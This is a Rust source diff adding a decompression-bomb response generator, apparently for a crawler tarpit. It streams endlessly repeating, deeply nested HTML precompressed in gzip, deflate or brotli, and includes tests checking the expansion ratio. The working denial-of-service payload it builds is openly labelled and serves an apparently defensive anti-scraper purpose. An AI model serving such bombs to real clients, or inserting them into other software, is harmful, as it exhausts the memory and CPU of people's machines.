@@ -0,0 +1,329 @@
+use std::{io::Write, sync::Arc};
+
+use axum::http::HeaderValue;
+use brotli::{enc::BrotliEncoderParams, CompressorWriter};
+use bytes::{Bytes, BytesMut};
+use flate2::{Compress, Compression, FlushCompress};
+use tokio::sync::mpsc;
+use tracing::{instrument, Instrument};
+
+use crate::{config::ContentEncoding, request_context::RequestContext};
+
+use super::GeneratorStrategy;
+
+/// The uncompressed data that is repeated in the bomb. Any parser surviving the decompression
+/// gets to deal with some very deep nesting instead.
+const BOMB_PATTERN: &[u8] = b"<ul><li>";
+
+/// Amount of uncompressed data in each compressed block. Compressors output the same blocks
+/// sooner if this is a multiple of both their window size and [`BOMB_PATTERN`].
+const BLOCK_SIZE: usize = 1024 * 1024;
+
+/// How many blocks we compress at most while waiting for the encoder to start producing
+/// identical blocks.
+const MAX_WARMUP_BLOCKS: usize = 32;
+
+/// Empty gzip header, see RFC 1952. No flags, no modification time, unknown OS.
+const GZIP_HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
+
+/// Pre-compressed "decompression bombs" for a set of encodings, in order of preference.
+///
+/// Everything is compressed once when created, so sending a bomb is as cheap as sending a static
+/// file, while the receiver has to decompress roughly a thousand times more than we send.
+#[derive(Clone, Debug)]
+pub(crate) struct CompressionBomb {
+    bombs: Arc<[EncodedBomb]>,
+}
+
+impl CompressionBomb {
+    /// Compresses a bomb for each of the `encodings`, starting with `prefix`. Each message sent
+    /// will be at least `chunk_size` large.
+    ///
+    /// Returns why if a bomb cannot be made for one of the encodings.
+    pub fn new(
+        encodings: &[ContentEncoding],
+        prefix: &str,
+        chunk_size: usize,
+    ) -> Result<Self, String> {
+        let bombs = encodings
+            .iter()
+            .map(|&encoding| EncodedBomb::new(encoding, prefix, chunk_size))
+            .collect::<Result<_, _>>()?;
+        Ok(Self { bombs })
+    }
+
+    /// Picks the most preferred bomb that is accepted according to an `Accept-Encoding` header.
+    pub fn negotiate(&self, accept_encoding: Option<&HeaderValue>) -> Option<EncodedBomb> {
+        let accept_encoding = accept_encoding?.to_str().ok()?;
+        self.bombs
+            .iter()
+            .find(|bomb| accepts(accept_encoding, bomb.encoding))
+            .cloned()
+    }
+}
+
+/// Checks if an `Accept-Encoding` header value allows `encoding`.
+fn accepts(accept_encoding: &str, encoding: ContentEncoding) -> bool {
+    let mut wildcard = false;
+    for item in accept_encoding.split(',') {
+        let mut params = item.split(';');
+        let name = params.next().unwrap_or_default().trim();
+        let rejected = params.any(|param| {
+            param
+                .trim()
+                .strip_prefix("q=")
+                .and_then(|q| q.trim().parse::<f32>().ok())
+                .is_some_and(|q| q <= 0.0)
+        });
+
+        if name.eq_ignore_ascii_case(encoding.as_str()) {
+            return !rejected;
+        } else if name == "*" {
+            wildcard = !rejected;
+        }
+    }
+    wildcard
+}
+
+/// A bomb compressed using a single encoding.
+#[derive(Clone, Debug)]
+pub(crate) struct EncodedBomb {
+    encoding: ContentEncoding,
+    /// Sent first, containing any headers of the encoding and the compressed prefix.
+    prelude: Bytes,
+    /// Sent over and over after the prelude.
+    chunk: Bytes,
+}
+
+impl EncodedBomb {
+    /// Returns why if the encoder never settles on a block that can be repeated.
+    fn new(encoding: ContentEncoding, prefix: &str, chunk_size: usize) -> Result<Self, String> {
+        let block = BOMB_PATTERN.repeat(BLOCK_SIZE / BOMB_PATTERN.len());
+        let mut encoder = Encoder::new(encoding);
+
+        // Compressors carry state between blocks, so the first few blocks may differ. We keep
+        // compressing until the output is the same every time, so that it can be repeated.
+        // The prefix gets its own block to keep it from messing with the alignment of the rest.
+        let mut prelude = encoder.compress(prefix.as_bytes());
+        let mut previous = encoder.compress(&block);
+        let mut steady_block = None;
+        for _ in 0..MAX_WARMUP_BLOCKS {
+            let next = encoder.compress(&block);
+            if next == previous {
+                steady_block = Some(next);
+                break;
+            }
+            prelude.extend(previous);
+            previous = next;
+        }
+        let Some(steady_block) = steady_block else {
+            return Err(format!(
+                "cannot create a {encoding} bomb, as the compressed blocks did not repeat \
+                 within {MAX_WARMUP_BLOCKS} blocks"
+            ));
+        };
+
+        // Many blocks are tiny, so we bundle them up in somewhat sensible chunks
+        let repeats = (chunk_size / steady_block.len()).max(1);
+        Ok(Self {
+            encoding,
+            prelude: Bytes::from(prelude),
+            chunk: Bytes::from(steady_block.repeat(repeats)),
+        })
+    }
+
+    /// The encoding used for this bomb, to be used in a `Content-Encoding` header.
+    pub fn encoding(&self) -> ContentEncoding {
+        self.encoding
+    }
+}
+
+/// Streaming compressors, that flush after each block.
+enum Encoder {
+    /// Raw or zlib wrapped deflate, with a header that should be sent before the first block.
+    Deflate(Compress, Option<&'static [u8]>),
+    Brotli(Box<CompressorWriter<Vec<u8>>>),
+}
+
+impl Encoder {
+    fn new(encoding: ContentEncoding) -> Self {
+        match encoding {
+            ContentEncoding::Gzip => Self::Deflate(
+                Compress::new(Compression::best(), false),
+                Some(&GZIP_HEADER),
+            ),
+            ContentEncoding::Deflate => {
+                Self::Deflate(Compress::new(Compression::best(), true), None)
+            }
+            ContentEncoding::Brotli => {
+                let params = BrotliEncoderParams {
+                    quality: 9,
+                    lgwin: 22,
+                    ..Default::default()
+                };
+                Self::Brotli(Box::new(CompressorWriter::with_params(
+                    Vec::new(),
+                    4096,
+                    &params,
+                )))
+            }
+        }
+    }
+
+    /// Compresses `input`, returning everything the encoder has produced since last call.
+    fn compress(&mut self, input: &[u8]) -> Vec<u8> {
+        match self {
+            Self::Deflate(compress, header) => {
+                let mut out = header.take().map(<[u8]>::to_vec).unwrap_or_default();
+                out.reserve(input.len() / 100);
+                let start = compress.total_in();
+                loop {
+                    #[allow(clippy::cast_possible_truncation)]
+                    let consumed = (compress.total_in() - start) as usize;
+                    out.reserve(1024);
+                    compress
+                        .compress_vec(&input[consumed..], &mut out, FlushCompress::Full)
+                        .expect("compressing to memory cannot fail");
+
+                    // Done when there is nothing left and the encoder did not fill the buffer
+                    if compress.total_in() - start == input.len() as u64
+                        && out.len() < out.capacity()
+                    {
+                        break;
+                    }
+                }
+                out
+            }
+            Self::Brotli(writer) => {
+                writer
+                    .write_all(input)
+                    .and_then(|()| writer.flush())
+                    .expect("compressing to memory cannot fail");
+                std::mem::take(writer.get_mut())
+            }
+        }
+    }
+}
+
+impl GeneratorStrategy for EncodedBomb {
+    fn prepend_prefix(&self) -> bool {
+        // The prefix has already been compressed into the prelude
+        false
+    }
+
+    fn name(&self) -> &'static str {
+        "compression_bomb"
+    }
+
+    #[instrument(name = "spawn_compression_bomb", skip_all)]
+    fn start(self, tx: mpsc::Sender<Bytes>, _context: &RequestContext) {
+        // Cloning a `Bytes` is very cheap, so this does not need to be blocking
+        tokio::task::spawn(
+            async move {
+                let mut first = BytesMut::from(self.prelude);
+                first.extend_from_slice(&self.chunk);
+                if tx.send(first.freeze()).await.is_err() {
+                    return;
+                }
+                loop {
+                    if tx.send(self.chunk.clone()).await.is_err() {
+                        break;
+                    }
+                }
+            }
+            .in_current_span(),
+        );
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::io::Read;
+
+    use axum::http::HeaderValue;
+
+    use crate::config::ContentEncoding;
+
+    use super::{accepts, CompressionBomb, EncodedBomb, BOMB_PATTERN};
+
+    /// Decompresses a truncated stream, returning all data that could be read.
+    fn decompress(encoding: ContentEncoding, data: &[u8]) -> Vec<u8> {
+        let mut out = Vec::new();
+        let mut buf = [0; 64 * 1024];
+        let mut reader: Box<dyn Read> = match encoding {
+            ContentEncoding::Gzip => Box::new(flate2::read::GzDecoder::new(data)),
+            ContentEncoding::Deflate => Box::new(flate2::read::ZlibDecoder::new(data)),
+            ContentEncoding::Brotli => Box::new(brotli::Decompressor::new(data, 4096)),
+        };
+        // Will fail when the data ends, since the stream never does
+        while let Ok(n) = reader.read(&mut buf) {
+            if n == 0 {
+                break;
+            }
+            out.extend_from_slice(&buf[..n]);
+        }
+        out
+    }
+
+    #[test]
+    fn bombs_decompress_to_prefix_and_pattern() {
+        let prefix = "<!DOCTYPE html><html><body>";
+        for encoding in [
+            ContentEncoding::Gzip,
+            ContentEncoding::Deflate,
+            ContentEncoding::Brotli,
+        ] {
+            let bomb = EncodedBomb::new(encoding, prefix, 1024).unwrap();
+            let mut sent = bomb.prelude.to_vec();
+            for _ in 0..2 {
+                sent.extend_from_slice(&bomb.chunk);
+            }
+
+            let decompressed = decompress(encoding, &sent);
+            let body = decompressed
+                .strip_prefix(prefix.as_bytes())
+                .unwrap_or_else(|| panic!("{encoding} bomb did not start with prefix"));
+
+            // Each block is flushed, so everything sent should be possible to decompress
+            assert!(
+                body.len() >= 2 * super::BLOCK_SIZE,
+                "{encoding} bomb decompressed to only {} bytes",
+                body.len()
+            );
+            assert!(
+                body.chunks(BOMB_PATTERN.len())
+                    .all(|c| BOMB_PATTERN.starts_with(c)),
+                "{encoding} bomb contained unexpected data"
+            );
+            assert!(
+                body.len() / sent.len() > 100,
+                "{encoding} bomb is not much of a bomb"
+            );
+        }
+    }
+
+    #[test]
+    fn accept_encoding_is_respected() {
+        assert!(accepts("gzip", ContentEncoding::Gzip));
+        assert!(accepts("deflate, GZIP;q=0.5", ContentEncoding::Gzip));
+        assert!(accepts("*", ContentEncoding::Brotli));
+        assert!(!accepts("gzip;q=0, *", ContentEncoding::Gzip));
+        assert!(!accepts("br, *;q=0", ContentEncoding::Gzip));
+        assert!(!accepts("identity", ContentEncoding::Deflate));
+    }
+
+    #[test]
+    fn negotiation_follows_preference() {
+        let bomb =
+            CompressionBomb::new(&[ContentEncoding::Brotli, ContentEncoding::Gzip], "", 1).unwrap();
+        let negotiate = |header: &'static str| {
+            bomb.negotiate(Some(&HeaderValue::from_static(header)))
+                .map(|b| b.encoding())
+        };
+
+        assert_eq!(negotiate("gzip, br"), Some(ContentEncoding::Brotli));
+        assert_eq!(negotiate("gzip, deflate"), Some(ContentEncoding::Gzip));
+        assert_eq!(negotiate("deflate"), None);
+        assert!(bomb.negotiate(None).is_none());
+    }
+}